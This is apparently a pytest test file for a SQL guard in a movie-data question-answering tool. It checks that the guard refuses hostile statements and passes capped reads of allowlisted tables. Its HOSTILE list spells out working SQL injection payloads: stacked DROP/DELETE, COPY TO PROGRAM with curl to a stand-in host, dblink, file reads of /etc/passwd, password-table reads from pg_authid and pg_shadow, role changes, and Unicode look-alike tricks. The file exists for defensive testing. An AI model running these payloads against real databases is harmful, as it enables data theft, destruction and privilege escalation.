"""The SQL guard: one read of the allowlisted movie data gets through, regenerated with a capped LIMIT; nothing else."""

import pytest
import sqlglot

from cinelake.ask.guard import UnsafeQuery, guard_sql
from cinelake.ask.schema import ALLOWED_COLUMNS, PARTIAL_TABLES, TABLE_COLUMNS, schema_text
from cinelake.errors import PermanentError

pytestmark = pytest.mark.unit

# (statement, a part of the reason it is refused for): the reason proves it was refused for the right thing.
HOSTILE = [
    # stacked statements
    ("SELECT 1; SELECT 2", "more than one statement"),
    ("SELECT title FROM movies; DROP TABLE movies", "more than one statement"),
    ("SELECT title FROM movies;\nDELETE FROM movies", "more than one statement"),
    ("SELECT 1 --\n; DROP TABLE movies", "more than one statement"),
    # writes, DDL, privileges
    ("DROP TABLE movies", "only SELECT"),
    ("DELETE FROM movies", "only SELECT"),
    ("UPDATE movies SET title = 'x'", "only SELECT"),
    ("INSERT INTO genres (genre_id, name) VALUES (1, 'x')", "only SELECT"),
    ("TRUNCATE movies", "only SELECT"),
    ("ALTER TABLE movies ADD COLUMN x int", "only SELECT"),
    ("GRANT ALL ON movies TO PUBLIC", "only SELECT"),
    ("REVOKE SELECT ON movies FROM cinelake_reader", "only SELECT"),
    ("CREATE TABLE stolen AS SELECT title FROM movies", "only SELECT"),
    ("CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "only SELECT"),
    ("MERGE INTO genres g USING genres s ON g.genre_id = s.genre_id WHEN MATCHED THEN DELETE", "only SELECT"),
    # COPY, also psql's
    ("COPY movies TO PROGRAM 'curl http://evil.example'", "only SELECT"),
    ("COPY (SELECT title FROM movies) TO '/tmp/stolen'", "only SELECT"),
    ("\\copy movies to '/tmp/stolen'", "not valid SQL"),
    # SELECT that writes or locks
    ("SELECT title INTO stolen FROM movies", "INTO is not allowed"),
    ("SELECT title FROM movies FOR UPDATE", "LOCK is not allowed"),
    ("SELECT title FROM movies FOR SHARE", "LOCK is not allowed"),
    ("SELECT title FROM movies FOR NO KEY UPDATE SKIP LOCKED", "LOCK is not allowed"),
    # data-modifying CTEs, which PostgreSQL runs even when the outer SELECT ignores them
    ("WITH x AS (DELETE FROM movies RETURNING tmdb_id) SELECT tmdb_id FROM x", "DELETE is not allowed"),
    ("WITH x AS (UPDATE movies SET title = 'x' RETURNING title) SELECT title FROM x", "UPDATE is not allowed"),
    ("WITH x AS (INSERT INTO genres VALUES (1, 'x') RETURNING genre_id) SELECT genre_id FROM x", "INSERT is not"),
    (
        "SELECT title FROM movies WHERE tmdb_id IN (WITH d AS (DELETE FROM movies RETURNING tmdb_id) SELECT tmdb_id"
        " FROM d)",
        "DELETE is not allowed",
    ),
    # functions outside the allowlist, however spelled
    ("SELECT pg_sleep(10)", "function pg_sleep"),
    ("SELECT title FROM movies WHERE pg_sleep(1) IS NULL", "function pg_sleep"),
    ("SELECT title FROM movies ORDER BY pg_sleep(1)", "function pg_sleep"),
    ('SELECT "pg_sleep"(5)', "function pg_sleep"),
    ("SELECT PG_SLEEP(5)", "function pg_sleep"),
    ("SELECT pg_catalog.pg_sleep(5)", "DOT is not allowed"),
    ("SELECT title FROM movies LIMIT (SELECT pg_sleep(1))::int", "function pg_sleep"),
    ("SELECT pg_read_file('/etc/passwd')", "function pg_read_file"),
    ("SELECT pg_read_binary_file('/etc/passwd')", "function pg_read_binary_file"),
    ("SELECT pg_ls_dir('.')", "function pg_ls_dir"),
    ("SELECT lo_import('/etc/passwd')", "function lo_import"),
    ("SELECT lo_export(1, '/tmp/stolen')", "function lo_export"),
    ("SELECT title FROM movies WHERE tmdb_id = 1 OR (SELECT lo_unlink(1)) = 1", "function lo_unlink"),
    ("SELECT dblink('host=evil.example', 'select 1')", "function dblink"),
    ("SELECT set_config('role', 'postgres', true)", "function set_config"),
    ("SELECT set_config('statement_timeout', '0', false)", "function set_config"),
    ("SELECT current_setting('data_directory')", "function current_setting"),
    ("SELECT version()", "function"),
    ("SELECT txid_current()", "function txid_current"),
    ("SELECT pg_terminate_backend(1)", "function pg_terminate_backend"),
    ("SELECT query_to_xml('select * from loaded_objects', true, false, '')", "function query_to_xml"),
    ("SELECT nextval('movies_seq')", "function nextval"),
    ("SELECT my_function(title) FROM movies", "function my_function"),
    ("SELECT generate_series(1, 10)", "function"),
    ("SELECT title FROM movies WHERE title ~ '(a+)+$'", "function regexp_like"),
    ("SELECT current_user", "function current_user"),
    ("SELECT 1 AS user, (SELECT user)", "user is not allowed"),
    # table functions
    ("SELECT * FROM generate_series(1, 1000000000)", "table functions"),
    ("SELECT title FROM movies, pg_sleep(5)", "table functions"),
    ("SELECT x FROM dblink('host=evil.example', 'select 1') AS t(x int)", "table functions"),
    # casts to types that look things up or parse documents
    ("SELECT 'pg_authid'::regclass", "OBJECTIDENTIFIER is not allowed"),
    ("SELECT CAST(title AS xml) FROM movies", "type XML"),
    # the catalogue and other schemas
    ("SELECT * FROM pg_shadow", "table pg_shadow"),
    ("SELECT usename, passwd FROM pg_shadow", "table pg_shadow"),
    ("SELECT rolname, rolpassword FROM pg_authid", "table pg_authid"),
    ("SELECT * FROM pg_user", "table pg_user"),
    ("SELECT * FROM pg_roles", "table pg_roles"),
    ("SELECT * FROM information_schema.tables", "schema information_schema"),
    ("SELECT * FROM pg_catalog.pg_class", "schema pg_catalog"),
    ("SELECT * FROM pg_catalog.movies", "schema pg_catalog"),
    ("SELECT * FROM otherdb.public.movies", "schema"),
    ("SELECT title FROM movies WHERE EXISTS (SELECT 1 FROM pg_authid)", "table pg_authid"),
    ("SELECT (SELECT rolpassword FROM pg_authid LIMIT 1)", "table pg_authid"),
    ("SELECT 1 UNION SELECT rolpassword FROM pg_authid", "table pg_authid"),
    ("SELECT title FROM movies WHERE title = (SELECT string_agg(usename, ',') FROM pg_user)", "table pg_user"),
    # public tables that are not the movie data
    ("SELECT * FROM public.loaded_objects", "table loaded_objects"),
    ("SELECT * FROM public.schema_migrations", "table schema_migrations"),
    ("SELECT * FROM loaded_objects", "table loaded_objects"),
    ("SELECT * FROM schema_migrations", "table schema_migrations"),
    ("SELECT * FROM release_dates", "table release_dates"),
    ("SELECT * FROM movie_tombstones", "table movie_tombstones"),
    ("TABLE loaded_objects", "table loaded_objects"),
    ("SELECT title FROM movies AS m JOIN loaded_objects AS l ON true", "table loaded_objects"),
    ("SELECT * FROM (SELECT * FROM loaded_objects) AS x", "table loaded_objects"),
    ("WITH a AS (SELECT * FROM loaded_objects) SELECT * FROM a", "table loaded_objects"),
    # a CTE name only hides a table where PostgreSQL would see the CTE
    (
        "SELECT a FROM (WITH loaded_objects AS (SELECT 1 AS a) SELECT a FROM loaded_objects) AS s, loaded_objects",
        "table loaded_objects",
    ),
    ("WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS x) SELECT * FROM a", "table b"),
    ("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r", "WITH RECURSIVE"),
    # look-alike names and characters
    ('SELECT * FROM "Movies"', "table Movies"),
    ("SELECT * FROM m\u043evies", "is not allowed"),  # Cyrillic o
    ("SELECT * FROM \u212aeywords", "is not allowed"),  # Kelvin sign, lower-cased to k by Python, not by PostgreSQL
    ("SELECT * FROM movies\u037e DROP TABLE movies", "not valid SQL"),  # Greek question mark
    ("SELECT * FROM movies\uff1bDROP TABLE movies", "not valid SQL"),  # full-width semicolon
    ("\uff33\uff25\uff2c\uff25\uff23\uff34 * FROM movies", "not valid SQL"),  # full-width SELECT
    ("SELECT title FROM movies WHERE title = 'x'\u2028; DROP TABLE movies", "more than one statement"),
    # columns outside the allowlist
    ("SELECT password FROM movies", "column password"),
    ("SELECT m.secret FROM movies AS m", "column secret"),
    ("SELECT ctid FROM movies", "system column ctid"),
    ("SELECT xmin, title FROM movies", "system column xmin"),
    ("SELECT tableoid FROM movies", "system column tableoid"),
    ("SELECT title FROM movies JOIN genres USING (ctid)", "system column ctid"),
    ("SELECT m FROM movies AS m", "column m"),
    ("SELECT x.title FROM movies AS m", "alias x"),
    ("SELECT pg_catalog.pg_authid.rolpassword FROM movies", "qualified"),
    # comments hiding statements, and nothing at all
    ("SELECT title FROM movies /* */; DROP TABLE movies", "more than one statement"),
    ("/* SELECT 1 */ DROP TABLE movies", "only SELECT"),
    ("-- SELECT 1\nDROP TABLE movies", "only SELECT"),
    ("SELECT title FROM movies --\n;DELETE FROM movies", "more than one statement"),
    ("/* only a comment */", "no statement"),
    ("-- only a comment", "no statement"),
    ("", "no statement"),
    ("   \n\t ", "no statement"),
    (";", "no statement"),
    # too big
    ("SELECT title FROM movies WHERE title = '" + "a" * 100_000 + "'", "longer than"),
    ("SELECT " + "(" * 3_000 + "1" + ")" * 3_000, "nested too deeply"),
    # commands
    ("EXPLAIN ANALYZE DELETE FROM movies", "only SELECT"),
    ("EXPLAIN SELECT title FROM movies", "only SELECT"),
    ("CALL my_procedure()", "only SELECT"),
    ("DO $$ BEGIN PERFORM pg_sleep(10); END $$", "only SELECT"),
    ("LISTEN channel", "only SELECT"),
    ("NOTIFY channel, 'x'", "not valid SQL"),
    ("VACUUM movies", "only SELECT"),
    ("ANALYZE movies", "only SELECT"),
    ("PREPARE p AS DELETE FROM movies", "only SELECT"),
    ("EXECUTE p", "only SELECT"),
    ("DEALLOCATE ALL", "only SELECT"),
    ("SET ROLE postgres", "only SELECT"),
    ("SET statement_timeout = 0", "only SELECT"),
    ("RESET ROLE", "only SELECT"),
    ("BEGIN", "only SELECT"),
    ("COMMIT", "only SELECT"),
    ("LOCK TABLE movies", "only SELECT"),
    ("SHOW ALL", "only SELECT"),
    ("DISCARD ALL", "only SELECT"),
    ("CHECKPOINT", "only SELECT"),
    ("LOAD 'somelib'", "only SELECT"),
    ("VALUES (1)", "only SELECT"),
    # parameters and string forms the regenerated SQL must not carry
    ("SELECT $1", "PARAMETER is not allowed"),
    ("SELECT title FROM movies WHERE title = ?", "named :parameters"),
    ("SELECT E'\\\\' || title FROM movies", "BYTESTRING is not allowed"),
    ("SELECT $$x$$", "RAWSTRING is not allowed"),
    ("SELECT U&'\\0041'", "UNICODESTRING is not allowed"),
]


@pytest.mark.parametrize(("sql", "reason"), HOSTILE, ids=[f"{i:03d}" for i in range(len(HOSTILE))])
def test_guard_refuses_hostile_sql_with_its_reason(sql: str, reason: str):
    # GIVEN a statement that could write, leak, stall or smuggle
    # WHEN it is guarded
    with pytest.raises(UnsafeQuery) as refused:
        guard_sql(sql)
    # THEN it is refused, for the right reason
    assert reason in str(refused.value)


GOOD = [
    "SELECT title FROM movies",
    "SELECT title FROM movies LIMIT 500",
    "SELECT title FROM movies LIMIT ALL",
    "SELECT title FROM movies LIMIT :n",
    "SELECT title FROM movies ORDER BY popularity DESC LIMIT 5 OFFSET 10",
    "SELECT t.title FROM (SELECT title FROM movies LIMIT 1000) AS t",
    "SELECT name FROM genres UNION SELECT name FROM keywords ORDER BY 1 LIMIT 3",
    "SELECT name FROM genres INTERSECT SELECT name FROM keywords",
    "SELECT name FROM genres EXCEPT SELECT name FROM keywords",
    "WITH directed AS (SELECT c.person_id, count(*) AS films FROM movie_crew AS c WHERE c.job = 'Director'"
    " GROUP BY c.person_id) SELECT p.name, d.films FROM directed AS d JOIN people AS p ON p.person_id = d.person_id"
    " ORDER BY d.films DESC LIMIT 10",
    "SELECT g.name, avg(f.profit) AS avg_profit FROM movie_facts f JOIN movie_genres mg ON mg.tmdb_id = f.tmdb_id"
    " JOIN genres g ON g.genre_id = mg.genre_id WHERE f.release_year BETWEEN 2000 AND 2010 GROUP BY g.name"
    " HAVING count(*) > 5 ORDER BY avg_profit DESC NULLS LAST",
    "SELECT release_year, round(avg(roi), 2) AS mean_roi, max(revenue), min(budget), sum(profit) FROM movie_facts"
    " WHERE roi IS NOT NULL GROUP BY release_year",
    "SELECT CASE WHEN budget > 100000000 THEN 'big' WHEN budget IS NULL THEN 'unknown' ELSE 'small' END AS size,"
    " count(*) FROM movies GROUP BY 1",
    "SELECT coalesce(tagline, overview, '') AS blurb, nullif(runtime, 0) FROM movies",
    "SELECT string_agg(name, ', ' ORDER BY name) AS names, array_agg(DISTINCT gender) FROM people",
    "SELECT extract(year FROM release_date) AS y, date_part('month', release_date) AS m,"
    " date_trunc('month', release_date) AS d, make_date(2020, 1, 1) AS start FROM movies",
    "SELECT abs(profit), floor(roi), ceil(roi), greatest(budget, revenue), least(budget, revenue) FROM movie_facts",
    "SELECT lower(title), upper(title), btrim(title), trim(title), length(title),"
    " concat(title, ' (', release_year, ')'), title || '!' FROM movie_facts",
    "SELECT title FROM movies WHERE title ILIKE :pattern",
    "SELECT m.title FROM movies AS m WHERE EXISTS (SELECT 1 FROM movie_cast AS c WHERE c.tmdb_id = m.tmdb_id"
    " AND c.cast_order = 0)",
    "SELECT title FROM movies WHERE tmdb_id IN (SELECT tmdb_id FROM movie_keywords WHERE keyword_id = 4379)"
    " AND status NOT IN ('Rumored', 'Planned')",
    "SELECT count(DISTINCT original_language) FILTER (WHERE vote_count > 100) FROM movies",
    "SELECT title, sum(budget) OVER (PARTITION BY status ORDER BY release_date) AS running FROM movies",
    "SELECT count(*) AS \"películas\" FROM movies WHERE release_date >= '2000-01-01' AND NOT adult",
    "WITH loaded_objects AS (SELECT title FROM movies) SELECT title FROM loaded_objects",
    "SELECT CAST(budget AS numeric) / 1000000 AS millions, budget::float, vote_count::text FROM movies",
    "SELECT m.title FROM public.movies AS m",
    "SELECT Title FROM MOVIES",
    "SELECT * FROM movie_facts",
    "SELECT m.* FROM movies AS m JOIN movie_countries AS mc USING (tmdb_id) WHERE mc.iso_3166_1 = 'ES'",
    "SELECT title FROM movies WHERE 'US' = ANY(origin_country)"
    " AND release_date > DATE '2000-01-01' - INTERVAL '1 year'",
    "SELECT title, vote_average FROM movies WHERE vote_average IS DISTINCT FROM 0 ORDER BY vote_average DESC, title",
    "(SELECT title FROM movies ORDER BY budget DESC LIMIT 3) UNION ALL (SELECT title FROM movies ORDER BY budget"
    " LIMIT 3)",
    "SELECT DISTINCT ON (status) status, title FROM movies ORDER BY status, popularity DESC",
    "SELECT 'it''s' AS quote, 'a\\b' AS backslash",
]


@pytest.mark.parametrize("sql", GOOD, ids=[f"{i:03d}" for i in range(len(GOOD))])
def test_guard_passes_reads_of_the_movie_data_with_a_capped_limit(sql: str):
    # GIVEN a read a question could need
    # WHEN it is guarded
    guarded = guard_sql(sql)
    # THEN it passes, ends with a LIMIT of at most 100, and guarding it again changes nothing
    limit = sqlglot.parse_one(guarded, dialect="postgres").args["limit"].expression
    assert 0 <= int(limit.this) <= 100
    assert guard_sql(guarded) == guarded


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("SELECT title FROM movies", "SELECT title FROM movies LIMIT 100"),
        ("select title from movies limit 500", "SELECT title FROM movies LIMIT 100"),
        ("SELECT title FROM movies LIMIT 10", "SELECT title FROM movies LIMIT 10"),
        ("SELECT title FROM movies LIMIT ALL", "SELECT title FROM movies LIMIT 100"),
        ("SELECT title FROM movies LIMIT :n", "SELECT title FROM movies LIMIT 100"),
        ("SELECT title FROM movies LIMIT 0", "SELECT title FROM movies LIMIT 0"),
        (
            "SELECT t.title FROM (SELECT title FROM movies LIMIT 1000) AS t",
            "SELECT t.title FROM (SELECT title FROM movies LIMIT 1000) AS t LIMIT 100",
        ),
        (
            "SELECT name FROM genres UNION SELECT name FROM keywords ORDER BY 1 LIMIT 3",
            "SELECT name FROM genres UNION SELECT name FROM keywords ORDER BY 1 LIMIT 3",
        ),
        ("SELECT title -- the name\nFROM movies /* every movie */;", "SELECT title FROM movies LIMIT 100"),
        (
            "SELECT title FROM movies WHERE title ILIKE :pattern",
            "SELECT title FROM movies WHERE title ILIKE :pattern LIMIT 100",
        ),
        (
            "SELECT release_year, round(avg(roi), 2) FROM movie_facts GROUP BY release_year",
            "SELECT release_year, ROUND(CAST(AVG(roi) AS DECIMAL), 2) FROM movie_facts GROUP BY release_year LIMIT 100",
        ),
        (
            "SELECT date_part('year', release_date) AS y, btrim(title) FROM movies",
            "SELECT EXTRACT(YEAR FROM release_date) AS y, TRIM(title) FROM movies LIMIT 100",
        ),
    ],
)
def test_guard_regenerates_the_statement_with_its_outermost_limit_capped(sql: str, expected: str):
    # GIVEN a read, with or without a LIMIT of its own
    # WHEN it is guarded
    # THEN the outermost LIMIT is added or lowered to 100, inner ones are left alone, and comments are gone
    assert guard_sql(sql) == expected


def test_guard_caps_the_limit_at_the_callers_max_rows():
    # GIVEN a caller that wants at most 20 rows
    # WHEN statements asking for more, fewer or any are guarded
    # THEN each returns at most 20
    assert guard_sql("SELECT title FROM movies LIMIT 50", max_rows=20) == "SELECT title FROM movies LIMIT 20"
    assert guard_sql("SELECT title FROM movies LIMIT 5", max_rows=20) == "SELECT title FROM movies LIMIT 5"
    assert guard_sql("SELECT title FROM movies", max_rows=20) == "SELECT title FROM movies LIMIT 20"


def test_guard_refuses_fetch_whose_with_ties_can_exceed_its_count():
    # GIVEN FETCH ... WITH TIES, which can return more rows than it names
    # WHEN it is guarded
    # THEN it is refused: LIMIT is the one way to bound rows
    with pytest.raises(UnsafeQuery, match="FETCH"):
        guard_sql("SELECT title FROM movies ORDER BY budget FETCH FIRST 3 ROWS WITH TIES")


@pytest.mark.parametrize("table", sorted(ALLOWED_COLUMNS))
def test_guard_passes_every_allowlisted_table_and_column(table: str):
    # GIVEN an allowlisted table or view
    # WHEN all of it, or each column by name, is read
    # THEN the guard lets it through
    guard_sql(f"SELECT * FROM {table}")
    columns = ", ".join(f"t.{name}" for name, _ in TABLE_COLUMNS[table])
    guard_sql(f"SELECT {columns} FROM {table} AS t")


@pytest.mark.parametrize(
    "call",
    [
        "count(*)",
        "sum(budget)",
        "avg(budget)",
        "min(budget)",
        "max(budget)",
        "string_agg(title, ', ')",
        "array_agg(title)",
        "round(popularity)",
        "round(roi, 2)",
        "abs(profit)",
        "floor(roi)",
        "ceil(roi)",
        "ceiling(roi)",
        "greatest(budget, revenue)",
        "least(budget, revenue)",
        "lower(title)",
        "upper(title)",
        "btrim(title)",
        "trim(title)",
        "length(title)",
        "concat(title, '!')",
        "coalesce(budget, 0)",
        "nullif(budget, 0)",
        "extract(year FROM release_date)",
        "date_part('year', release_date)",
        "date_trunc('year', release_date)",
        "make_date(2020, 1, 31)",
        "cast(budget AS text)",
        "CASE WHEN budget IS NULL THEN 0 ELSE 1 END",
    ],
)
def test_guard_passes_every_allowlisted_function(call: str):
    # GIVEN one of the functions a question may need
    # WHEN it is used on the movie data
    # THEN the guard lets it through
    guard_sql(f"SELECT {call} FROM movie_facts")


def test_unsafe_query_is_a_permanent_error():
    # GIVEN a refused statement
    # WHEN the caller decides whether to retry
    # THEN the error says retrying cannot help
    with pytest.raises(PermanentError):
        guard_sql("DROP TABLE movies")


def test_guard_rejects_a_max_rows_below_one():
    # GIVEN a caller asking for no rows at all
    # WHEN it guards a statement
    # THEN that is a programming error, not an unsafe query
    with pytest.raises(ValueError, match="max_rows"):
        guard_sql("SELECT title FROM movies", max_rows=0)


def test_schema_text_describes_each_allowlisted_table_on_a_line_and_the_conventions():
    # GIVEN the allowlist
    # WHEN it is described for a model's prompt
    text = schema_text()
    lines = text.splitlines()
    # THEN each table but the partial ones is one `table(column type, ...)` line, in order, then the conventions
    offered = {table: columns for table, columns in TABLE_COLUMNS.items() if table not in PARTIAL_TABLES}
    assert len(lines) == len(offered) + 1
    for line, (table, columns) in zip(lines, offered.items(), strict=False):
        assert line.startswith(f"{table}(") and line.endswith(")")
        assert all(f"{name} {kind}" in line for name, kind in columns)
    assert lines[0].startswith("movie_facts(tmdb_id integer, title text,")
    conventions = lines[-1]
    for fact in ("NULL when", "profit", "roi", "release_year", "movie_crew.job = 'Director'"):
        assert fact in conventions
    assert "loaded_objects" not in text and "release_dates" not in text
    # AND a model is never offered the sample of a quarter of the movies that distributions read
    assert "distribution_sample" not in text and "distribution_sample" in ALLOWED_COLUMNS
